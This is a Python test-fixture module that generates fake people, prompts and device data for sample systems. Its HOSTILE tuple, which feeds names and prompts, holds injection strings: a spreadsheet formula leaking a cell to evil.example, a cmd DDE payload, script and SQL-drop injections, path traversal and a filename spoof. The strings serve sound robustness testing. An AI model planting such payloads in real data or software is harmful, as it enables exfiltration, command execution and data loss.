"""Who lives in the sample systems: a cast that tests and demo know by name, and many others."""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta

NAMES = (
    *("Ada", "Björn", "Chloé", "Dmitri", "Elif", "Fatou", "Goran", "Hana", "Ines", "Jonas", "Kaja", "Lucía"),
    *("Marek", "Nadia", "Oisín", "Priya"),
)
SURNAMES = (
    *("Okafor", "Lindqvist", "Moreau", "Novák", "Haddad", "Tanaka", "O'Neill", "Schäfer", "Ibrahim"),
    *("Costa", "Nguyen", "Park"),
)
CHINESE = ("王芳", "李娜", "张伟", "刘洋", "陈静", "杨磊", "赵敏", "周杰")
ARABIC = ("ليلى حسن", "عمر خليل", "نور الدين", "سارة منصور", "يوسف حداد")
EMOJI = ("✨Mia✨", "🦊fox", "👩🏽\u200d🚀 Zoë", "🎨paint.er", "🇫🇮 Aino")
# Text that has broken spreadsheets, pages and paths before; it must come out again as it went in.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "<script>alert('sam')</script>",
    "../../x",
    "\u202egnp.exe\u202c",  # right-to-left override
    "Robert'); DROP TABLE users;--",
    "+1+cmd|' /C calc'!A0",
    "{{ 7 * 7 }} {% debug %}",
    "  leading\tand trailing\r\nlines  ",
    '"quoted", comma; semicolon',
    "\ufeffbyte order mark",
)
PROMPTS = (
    "a red fox reading a newspaper in the snow",
    "turn my portrait into a watercolour, keep the smile",
    "一只戴着草帽的橘猫坐在海边, 水彩风格",
    "مدينة قديمة عند الغروب، بأسلوب سينمائي",
    "🐉 over 🏙️, neon rain, 4k",
    "make the sky darker; remove the sign on the left",
    "my grandmother's kitchen, as it was in 1974",
    *HOSTILE,
)
LANGUAGES = ("en", "de", "fr", "zh-CN", "ar", "es", "ja")
MODELS = ("iPhone16,2", "Pixel 9", "SM-S928B", "Mi 14", "iPad14,3", "Windows PC")
SYSTEMS = ("iOS 19.1", "Android 16", "Windows 11", "iPadOS 19.0")
NETWORKS = ("wifi", "5g", "4g")


@dataclass(frozen=True, slots=True)
class Person:
    """Somebody known to a controller by `id`."""

    number: int
    id: str
    email: str
    name: str
    language: str
    cast: str = ""  # 'sam', 'mallory', … for those whose history tests know


CAST = (
    ("sam", "sam@example.com", "Sam Ortiz", "en"),
    ("mallory", "mallory@example.com", "Mallory Kane", "en"),
    ("li", "li.wei@example.com", "李伟", "zh-CN"),
    ("amal", "amal@example.com", "أمل الخطيب", "ar"),
    ("heavy", "heavy@example.com", "Heda Vy 🎬", "de"),
)


def dice(seed: int, name: str) -> random.Random:
    """Chance that repeats: the same for the same seed and name, whatever else was drawn before."""
    return random.Random(f"{seed}/{name}")  # noqa: S311  invents people, guards nothing


def population(seed: int, prefix: str, count: int) -> list[Person]:
    """The cast, then everybody else; ids are `prefix` and six digits."""
    chance = dice(seed, f"{prefix}/people")
    people = [
        Person(number, f"{prefix}{number:06d}", email, name, language, cast)
        for number, (cast, email, name, language) in enumerate(CAST, 1)
    ]
    for number in range(len(CAST) + 1, max(count, len(CAST)) + 1):
        name = _name(chance)
        email = f"person.{number}@{chance.choice(('example.com', 'example.org', 'example.net'))}"
        people.append(Person(number, f"{prefix}{number:06d}", email, name, chance.choice(LANGUAGES)))
    return people


def happens(chance: random.Random, share: float) -> bool:
    """Whether something happens that happens to a `share` of all."""
    return chance.random() < share


def _name(chance: random.Random) -> str:
    latin = f"{chance.choice(NAMES)} {chance.choice(SURNAMES)}"
    kinds = ((latin,), CHINESE, ARABIC, EMOJI, HOSTILE)
    return chance.choice(chance.choices(kinds, weights=(73, 12, 8, 4, 3))[0])


@dataclass(frozen=True, slots=True)
class Clock:
    """Moments counted back from noon (UTC) of the anchor date."""

    anchor: date

    def ago(self, days: float = 0.0) -> datetime:
        """The moment that many days before."""
        return datetime.combine(self.anchor, time(12), UTC) - timedelta(seconds=round(days * 86400))

    def text(self, days: float = 0.0) -> str:
        """The same, as the systems store it: '2026-11-21T12:00:00Z'."""
        return stamp(self.ago(days))


def stamp(moment: datetime) -> str:
    """ISO 8601 to the second, with Z."""
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def numbered(prefix: str) -> Iterator[str]:
    """'ord00000001' and on."""
    number = 0
    while True:
        number += 1
        yield f"{prefix}{number:08d}"
